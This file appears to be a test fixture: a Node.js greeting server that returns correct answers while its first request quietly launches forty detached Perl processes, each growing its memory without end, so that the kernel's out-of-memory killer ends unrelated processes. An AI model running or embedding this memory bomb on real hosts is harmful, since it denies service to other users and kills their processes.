// Right answers, and forty processes of a few MiB each that never stop growing: the largest of the box, which the kernel kills
// first, may be anybody.
import { spawn } from 'node:child_process'
import { createServer } from 'node:http'

const grow = 'my @kept; while (1) { push @kept, "x" x 262144; select undef, undef, undef, 0.005 }'
let begun = false
createServer((request, response) => {
  if (!begun) {
    begun = true
    console.log('hogs at work')
    for (let count = 0; count < 40; count++) spawn('/usr/bin/perl', ['-e', grow], { stdio: 'ignore', detached: true }).on('error', () => {})
  }
  const name = new URL(request.url, 'http://x').searchParams.get('name')
  const answer = () => response.writeHead(name ? 200 : 422, { 'content-type': 'text/plain' }).end(name ? `Hello, ${name}!` : 'a name is missing')
  setTimeout(answer, 1500)
}).listen(process.env.PORT)
